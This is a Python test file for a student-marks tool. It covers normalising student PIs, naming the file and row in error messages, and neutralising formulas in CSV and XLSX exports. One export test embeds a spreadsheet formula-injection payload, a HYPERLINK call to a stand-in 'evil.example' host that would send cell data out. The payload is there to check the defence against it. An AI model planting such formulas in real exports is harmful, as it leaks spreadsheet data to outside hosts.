"""PIs that look alike but are not written alike, invalid PIs, and marks files that are not files
of marks: each is normalised or refused with the file and row named."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from gaffertape.errors import UserError
from gaffertape.export import export_table
from gaffertape.identity import normalise_pi, pis_in_text, valid_pi
from gaffertape.marking import api
from gaffertape.marking.scheme import DEFAULT_CATEGORIES
from gaffertape.sites.parse import parse_pasted
from gaffertape.sites.workflows.common import read_pis_file
from gaffertape.sites.workflows.post import read_third_marks
from gaffertape.workspace import Workspace

from .conftest import gaffertape

CATEGORIES = [c.name for c in DEFAULT_CATEGORIES]


def _marks(rows: list[tuple[str, str, str, list[int]]]) -> pd.DataFrame:
    """(pi, role, marker, five marks) -> the long marks table."""
    return pd.DataFrame([
        {"course": "TM470-25J", "pi": pi, "role": role, "marker": marker, "category": cat,
         "mark": mark, "comments": ""}
        for pi, role, marker, marks in rows for cat, mark in zip(CATEGORIES, marks, strict=True)
    ])


@pytest.mark.parametrize("written", ["A1234567", "a1234567", " A1234567 ", "Ａ１２３４５６７",
                                     "A123\u200b4567", "\ufeffA1234567", "A1234567\u00a0"])
def test_one_student_however_the_pi_is_written(written: str) -> None:
    assert normalise_pi(written) == "A1234567"
    assert valid_pi(written, where="x") == "A1234567"


@pytest.mark.parametrize("bad", ["NOTAPI", "A123456", "A12345678", "12345678", "AB234567", ""])
def test_invalid_pi_is_an_error_naming_where(bad: str) -> None:
    with pytest.raises(UserError, match=r"^marks.csv row 7: PI .* is not valid"):
        valid_pi(bad, where="marks.csv row 7")


def test_lower_case_pi_does_not_split_a_script_in_two(tmp_path: Path) -> None:
    marks = _marks([("A1234567", "first", "Ann", [6] * 5),
                    ("a1234567", "second", "Bob", [1] * 5)])  # a real disagreement
    path = tmp_path / "marks.csv"
    marks.to_csv(path, index=False)
    flags = api.load(str(path)).flags
    assert list(flags["pi"]) == ["A1234567"]
    assert "awaiting" not in flags["status"].iloc[0]  # flagged, not two half-marked scripts


def test_marks_file_with_invalid_pi_names_the_row(tmp_path: Path) -> None:
    marks = _marks([("A1234567", "first", "Ann", [6] * 5), ("NOTAPI", "first", "Ann", [6] * 5)])
    path = tmp_path / "marks.csv"
    marks.to_csv(path, index=False)
    Workspace.init(tmp_path / "ws")
    run = gaffertape("-w", "ws", "marking", "flags", "--from", "marks.csv", cwd=tmp_path)
    assert run.returncode == 2
    assert run.errors == ["error: marks.csv row 7: PI 'NOTAPI' is not valid (expected a letter "
                          "and 7 digits, e.g. A1234567) (correct the PI and run again)"]


@pytest.mark.parametrize(("name", "content", "message"), [
    ("empty.csv", b"", "empty.csv: the marks file is empty"),
    ("blank.csv", b"\n\n  \n", "blank.csv: the marks file is empty"),
    ("corrupt.xlsx", b"PK\x03\x04 definitely not a workbook", "corrupt.xlsx: cannot read"),
    ("notes.txt", b"hello", "notes.txt: unsupported file type"),
    ("missing.csv", None, "missing.csv: no such marks file"),
])
def test_marking_from_a_file_that_is_not_marks_names_the_file(
    tmp_path: Path, name: str, content: bytes | None, message: str
) -> None:
    if content is not None:
        (tmp_path / name).write_bytes(content)
    Workspace.init(tmp_path / "ws")
    run = gaffertape("-w", "ws", "marking", "flags", "--from", name, cwd=tmp_path)
    assert run.returncode == 2, run.stderr
    assert len(run.errors) == 1 and message in run.errors[0], run.stderr
    assert "unexpected" not in run.stderr and "Traceback" not in run.stderr


def test_marks_file_in_latin1_is_read(tmp_path: Path) -> None:
    marks = _marks([("A1234567", "first", "Zoë Ångström", [6] * 5),
                    ("A1234567", "second", "Bob", [6] * 5)])
    path = tmp_path / "marks.csv"
    path.write_bytes(marks.to_csv(index=False).encode("latin-1"))
    assert set(api.load(str(path)).marks["marker"]) == {"Zoë Ångström", "Bob"}


def test_pasted_allocation_with_an_invalid_pi_names_the_row() -> None:
    pasted = "PI\tName\nA1234567\tAnn\nａ7654321\tBob\nNOTAPI\tEve\n"
    with pytest.raises(UserError, match=r"^pasted allocation row 4: PI 'NOTAPI' is not valid"):
        parse_pasted(pasted, "TM470-25J")
    good = parse_pasted(pasted.replace("NOTAPI\tEve\n", ""), "TM470-25J")
    assert [r["pi"] for r in good] == ["A1234567", "A7654321"]


def test_site_profile_pattern_is_used(tmp_path: Path) -> None:
    pasted = "PI\tName\nX12345\tAnn\n"
    assert parse_pasted(pasted, "C1", pi_pattern=r"X[0-9]{5}")[0]["pi"] == "X12345"
    with pytest.raises(UserError, match="not valid"):
        parse_pasted(pasted, "C1")


def test_pis_file_and_third_marks_file_normalise_and_check(tmp_path: Path) -> None:
    pis = tmp_path / "pis.txt"
    pis.write_text("a1234567\nＢ７６５４３２１ and C12\u200b34567\n", encoding="utf-8")
    assert read_pis_file(pis) == ["A1234567", "B7654321", "C1234567"]
    assert pis_in_text("A12345678") == []  # too long is not a PI
    third = tmp_path / "third.csv"
    pd.DataFrame([{"pi": "a1234567", **dict.fromkeys(CATEGORIES, 5)},
                  {"pi": "NOTAPI", **dict.fromkeys(CATEGORIES, 5)}]).to_csv(third, index=False)
    with pytest.raises(UserError, match=r"third.csv row 3: PI 'NOTAPI' is not valid"):
        read_third_marks(third)
    pd.DataFrame([{"pi": "a1234567", **dict.fromkeys(CATEGORIES, 5)}]).to_csv(third, index=False)
    assert list(read_third_marks(third)) == [(None, "A1234567")]


def test_marker_name_formula_is_inert_in_every_export(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    marks = _marks([("A1234567", "first", evil, [6] * 5), ("A1234567", "second", "+Bob", [6] * 5)])
    data = api.load(marks)
    xlsx = export_table(data.marks, tmp_path / "marks.xlsx")
    cells = [c for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row]
    markers = {c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value}
    assert markers == {"'" + evil}
    assert all(c.data_type != "f" for c in cells)
    csv_path = export_table(data.marks, tmp_path / "marks.csv")
    text = csv_path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'+Bob" in text and ",=" not in text and ",+" not in text
    # and on stdout: `... --format csv > file.csv` is an export too
    marks.to_csv(tmp_path / "in.csv", index=False)
    Workspace.init(tmp_path / "ws")
    run = gaffertape("-w", "ws", "marking", "flags", "--from", "in.csv", "--format", "csv",
                     cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert not any(field.startswith(("=", "+", "-", "@")) for line in run.stdout.splitlines()
                   for field in line.split(","))


def test_no_package_module_writes_csv_or_xlsx_around_the_shared_writer() -> None:
    """Every CSV/XLSX export goes through gaffertape.export: no module calls pandas' writers."""
    package = Path(__file__).resolve().parents[2] / "src" / "gaffertape"
    allowed = {package / "export.py", package / "ui.py"}  # ui writes neutralise(df).to_csv
    offenders = [
        str(path.relative_to(package)) for path in package.rglob("*.py")
        if path not in allowed and "demo" not in path.parts
        and any(call in path.read_text() for call in (".to_csv(", ".to_excel(", "ExcelWriter("))
    ]
    assert offenders == []
    assert "neutralise(df).to_csv" in (package / "ui.py").read_text()
